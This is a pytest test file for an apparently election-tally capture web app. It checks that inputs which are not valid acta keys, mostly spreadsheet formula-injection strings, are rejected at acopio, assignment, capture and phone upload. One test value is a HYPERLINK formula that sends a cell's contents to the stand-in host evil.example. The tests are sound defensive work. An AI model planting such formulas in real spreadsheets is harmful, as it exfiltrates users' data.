"""Keys outside the catalog that do not look like acta keys are refused at entry (issue 12): a typed
or scanned `=HYPERLINK(…)` must never become an acta key that later reaches a spreadsheet."""

from __future__ import annotations

import markupsafe
import pytest

from catd_node import keys_format
from tests.web.conftest import GOOD, digitize, hidden, jpeg, packets_of, values_form
from tests.web.test_uploads import make_device, send

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "DIP-14-01-0123-B01;=1", "clave con espacios", "a" * 65, "DIP.14"]
KEYS = ["DIP-14-01-0123-B01", "090001C0100A02", "X", "a" * 64, "DIP_99-99"]


@pytest.mark.parametrize("key", KEYS)
def test_acta_key_forms_are_accepted(key):
    assert keys_format.looks_like_acta_key(key)


@pytest.mark.parametrize("text", [*FORMULAS, "", "-DIP", "_DIP", "ñandú", "DIP-14\n"])
def test_other_text_is_not_an_acta_key(text):
    assert not keys_format.looks_like_acta_key(text)


async def test_acopio_refuses_a_key_that_is_not_an_acta_key_and_names_it(clerks, signed_in):
    ana = await signed_in("ana")
    for typed in FORMULAS:
        status, page = await ana.post("/acopio", {"clave": typed})
        assert status == 400, typed
        shown = str(markupsafe.escape(typed.strip()[:64]))
        assert "no es una clave de acta" in page and shown in page, typed
    assert not packets_of(clerks, "acta.acopio")
    status, page = await ana.post("/acopio", {"clave": "DIP-99-99-9999-X01"})  # outside, but a key
    assert status == 200 and "FUERA DE CATÁLOGO" in page
    assert [p["acta"] for p in packets_of(clerks, "acta.acopio")] == ["DIP-99-99-9999-X01"]


async def test_assignment_and_capture_refuse_a_key_that_is_not_an_acta_key(clerks, signed_in):
    sha = digitize(clerks, None, seed=50)
    ana = await signed_in("ana")
    status, page = await ana.get("/captura")
    assert hidden(page, "imagen") == sha
    status, page = await ana.post("/captura/asignar", {"imagen": sha, "clave": "=1+1"})
    assert status == 422 and "no es una clave de acta" in page and "=1+1" in page
    assert not packets_of(clerks, "acta.assigned")
    status, page = await ana.post("/captura", {"acta": "@cmd", "imagen": sha, **values_form(GOOD)})
    assert status == 400 and "@cmd" in page
    assert not packets_of(clerks, "acta.captured")


async def test_a_phone_upload_named_with_no_acta_key_waits_for_a_clerk(clerks, signed_in, browser):
    coco = await signed_in("coco")
    token = await make_device(coco)
    phone = browser()
    status, page = await send(phone, token, "foto.del.acta.jpg", jpeg(51))
    assert status == 201 and "foto.del.acta.jpg" in page
    assert "«foto.del.acta» no es una clave de acta" in page and "capturista" in page
    status, page = await send(phone, token, "DIP-14-01-0123-B01.jpg", jpeg(51))
    assert status == 201 and "no es una clave de acta" not in page

